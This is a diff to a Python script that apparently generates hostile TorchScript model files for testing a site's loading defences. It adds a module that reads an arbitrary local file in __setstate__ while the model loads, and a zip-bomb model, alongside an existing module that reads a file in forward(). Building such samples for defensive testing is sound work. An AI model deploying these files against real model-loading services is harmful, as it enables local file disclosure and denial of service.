@@ -1,9 +1,13 @@
-"""Writes a TorchScript backbone that reads a file of the site it runs on and feeds the bytes
-in as features (the attack a site's allowlist must stop), and one that only computes.
+"""Writes hostile TorchScript backbones, the attacks a site must stop before or while loading.
 
-usage: make_hostile.py HOSTILE.pt PATH_TO_READ
+usage: make_hostile.py OUT.pt PATH_TO_READ          forward() reads PATH_TO_READ (torch.from_file)
+       make_hostile.py OUT.pt PATH_TO_READ setstate  __setstate__ reads it, i.e. while LibTorch loads
+       make_hostile.py OUT.pt MB zipbomb             a module holding MB MiB of zeros, its members
+                                                     re-deflated: a small file that unpacks to MB MiB
 """
 import sys
+import zipfile
+from typing import Tuple
 
 import torch
 
@@ -20,4 +24,45 @@ class Exfiltrate(torch.nn.Module):
         return f + stolen.sum() * 0
 
 
-torch.jit.script(Exfiltrate(sys.argv[2])).save(sys.argv[1])
+class ExfiltrateOnLoad(torch.nn.Module):
+    def __init__(self, path: str):
+        super().__init__()
+        self.path = path
+        self.w = torch.zeros(4)
+
+    def forward(self, x):
+        return x.flatten(1) + self.w.sum()
+
+    @torch.jit.export
+    def __getstate__(self) -> Tuple[torch.Tensor, str, bool]:
+        return (self.w, self.path, self.training)
+
+    @torch.jit.export
+    def __setstate__(self, s: Tuple[torch.Tensor, str, bool]):
+        self.w = s[0] + torch.from_file(s[1], False, 4, dtype=torch.uint8).float()
+        self.path = s[1]
+        self.training = s[2]
+
+
+class Zeros(torch.nn.Module):
+    def __init__(self, mb: int):
+        super().__init__()
+        self.register_buffer("pad", torch.zeros(mb * (1 << 20) // 4))
+
+    def forward(self, x):
+        return x.flatten(1) + self.pad[0]
+
+
+mode = sys.argv[3] if len(sys.argv) > 3 else "forward"
+if mode == "forward":
+    torch.jit.script(Exfiltrate(sys.argv[2])).save(sys.argv[1])
+elif mode == "setstate":
+    torch.jit.script(ExfiltrateOnLoad(sys.argv[2])).save(sys.argv[1])
+elif mode == "zipbomb":
+    plain = sys.argv[1] + ".plain"
+    torch.jit.script(Zeros(int(sys.argv[2]))).save(plain)
+    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            dst.writestr(info.filename, src.read(info.filename))
+else:
+    sys.exit("unknown mode " + mode)
